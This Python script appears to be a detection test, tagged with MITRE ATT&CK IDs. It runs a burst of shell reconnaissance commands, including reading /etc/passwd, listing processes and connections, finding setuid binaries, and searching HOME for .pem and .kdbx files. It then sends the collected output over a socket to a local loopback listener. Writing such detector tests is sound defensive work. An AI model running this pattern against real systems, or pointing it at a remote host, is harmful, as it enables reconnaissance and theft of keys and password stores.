# technique: T1082 T1033 T1087.001 T1057 T1016 T1049 T1083 T1041
"""Discovery with the classic shell one-liners (one /bin/sh per command,
via os.popen and subprocess.getoutput), then the output is sent over a
raw TCP socket to a loopback listener (T1041).

Runs id, whoami (T1033), uname -a, hostname, cat /etc/passwd (T1087.001),
ps aux (T1057), ip addr / ip route (T1016), ss -tanp (T1049), and a
bounded search for setuid binaries and for *.pem/*.kdbx under HOME (T1083),
each through a shell (T1059.004), concatenates the output and sends it.

A good detector raises a medium or high alert: a program runs a burst of
reconnaissance commands and sends the result over a socket.
"""
import os
import socket
import subprocess
import threading

CMDS = ["id", "whoami", "uname -a", "hostname", "cat /etc/passwd", "ps aux",
        "ip addr 2>/dev/null || ifconfig -a", "ip route 2>/dev/null", "ss -tanp 2>/dev/null",
        "find /usr/bin /usr/sbin -maxdepth 1 -perm -4000 2>/dev/null",
        "find ~ -maxdepth 4 \\( -name '*.pem' -o -name '*.kdbx' \\) 2>/dev/null"]
out = []
for i, c in enumerate(CMDS):
    if i % 2:
        out.append(subprocess.getoutput(c))
    else:
        with os.popen(c) as p:
            out.append(p.read())

srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
got = bytearray()


def recv():
    c, _ = srv.accept()
    while d := c.recv(65536):
        got.extend(d)
    c.close()


t = threading.Thread(target=recv, daemon=True)
t.start()
s = socket.create_connection(srv.getsockname(), timeout=5)
s.sendall("\n=====\n".join(out).encode())
s.close()
t.join(5)
srv.close()
print("sent", len(got))
